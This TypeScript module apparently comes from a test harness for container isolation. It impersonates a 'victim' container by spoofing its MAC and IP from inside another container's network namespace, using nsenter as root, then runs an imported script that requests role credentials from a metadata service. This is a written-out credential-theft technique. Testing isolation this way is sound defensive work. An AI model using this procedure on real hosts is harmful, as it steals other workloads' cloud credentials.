import { succeed } from '../../cluster/run-command.ts';
import { STEAL } from '../agent/stranger-scripts.ts';
import { type InContainer, METADATA, ROLES } from './credential-steps.ts';
import type { ContainerHost } from './host-machine.ts';

/** Runs programs of this machine in the network of a container, as root: more than a container may. */
export async function inNetworkOf(
  host: Pick<ContainerHost, 'client' | 'run'>,
  name: string,
): Promise<InContainer> {
  const pid = (await host.client('inspect', '--format', '{{.State.Pid}}', name)).trim();
  return (command) => host.run(['nsenter', `--target=${pid}`, '--net', '--', ...command]);
}

/**
 * Takes the address of another container, and its MAC if that is given, and asks for its role.
 * @param inNetwork of the thief
 * @returns a line for each answer: its status and body
 */
export async function steal(
  inNetwork: InContainer,
  victim: { readonly address: string; readonly mac?: string },
): Promise<string> {
  // A new sysfs, which shows the interfaces of the container.
  const inThief: InContainer = (command) =>
    inNetwork([
      ...['unshare', '--mount', 'sh', '-euc', 'mount -t sysfs sysfs /sys; exec "$@"', 'sh'],
      ...command,
    ]);
  const { mac } = victim;
  if (mac) await succeed('theft of the MAC', inThief(['ip', 'link', 'set', 'eth0', 'address', mac]));
  await succeed('theft', inThief(['ip', 'address', 'add', `${victim.address}/32`, 'dev', 'eth0']));
  const asking = [
    'python3',
    '-c',
    STEAL,
    victim.address,
    new URL(METADATA).hostname,
    new URL(ROLES).pathname,
  ];
  return succeed('theft', inThief(asking));
}
